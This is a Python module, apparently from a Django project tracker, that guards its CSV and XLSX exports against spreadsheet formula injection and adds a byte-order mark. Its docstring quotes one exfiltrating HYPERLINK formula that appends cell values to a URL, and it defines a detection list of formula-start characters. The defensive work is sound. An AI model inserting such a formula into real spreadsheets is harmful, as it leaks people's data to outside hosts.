"""Cells of every CSV and XLSX file the tracker writes: text is shown as typed, never run as a formula.

A name typed by a partner (`=HYPERLINK("http://…?leak="&C2&D2, "Open")`) or a cell of an uploaded
list became a live formula in the donor report's workbook, the refused-rows workbook and the 3W CSV
(issue 12, and ../shared/cases/outputs/formula_cells_refused.csv). Spreadsheet programs read a cell
starting with = + - @ (and a tab or carriage return before them) as a formula: OWASP, "CSV Injection".

One guard for every writer (projects/reports/xlsx.py, projects/reports/hxl.py,
beneficiaries/imports/errors_file.py, api/exports.py):

- XLSX: such text is written as a text cell (inline string, "quote prefix" style, so that editing
  the cell in Excel keeps it text); the value is exactly what was typed.
- CSV has no cell types: such text is written with a leading apostrophe, which Excel, LibreOffice
  and Google Sheets show as typed and do not store. Numbers (int, float) are written as numbers.

CSV meant for people (the 3W export's CSV, the donor report's CSV) starts with a UTF-8 byte-order
mark (BOM): without it Excel on Windows reads the file in the machine's legacy code page and shows
"WalirdÃ©" for "Walirdé" and Arabic as noise (issue 15). A machine that would keep the mark as part
of its first header asks `?bom=0` (`bom_field`, `skip_bom`).
"""

from collections.abc import Iterable

from django import forms
from openpyxl.cell import WriteOnlyCell

BOM = "\ufeff"  # U+FEFF, EF BB BF in UTF-8

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width


def is_formula_like(value) -> bool:
    """True for text a spreadsheet program would evaluate (or could, once edited): see FORMULA_STARTS."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)


def csv_cell(value):
    """A value for csv.writer: formula-like text behind an apostrophe, anything else unchanged."""
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """Values for `sheet.append` (normal or write-only sheet): formula-like text as a text cell."""
    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in values]


def _text_cell(sheet, value: str):
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl typed it "f" (formula) from its leading "="
    cell.quotePrefix = True
    return cell


def bom_field() -> forms.Field:
    """The `bom` query parameter of a CSV download: absent or "1" gives True (the file starts with the BOM),
    "0" False; anything else is a field error (HTTP 400)."""
    return forms.TypedChoiceField(
        choices=[("1", "1"), ("0", "0")], coerce=lambda value: value == "1", required=False, empty_value=True
    )


def wants_bom(params) -> bool:
    """The `bom` query parameter (see bom_field); raises django ValidationError({"bom": [...]}) when invalid."""
    try:
        return bom_field().clean(params.get("bom", ""))
    except forms.ValidationError as error:
        raise forms.ValidationError({"bom": error.messages}) from None


def skip_bom(handle) -> None:
    """Move a stored CSV's binary handle past its BOM, if it starts with one (a download asked `?bom=0`)."""
    mark = BOM.encode()
    if handle.read(len(mark)) != mark:
        handle.seek(0)
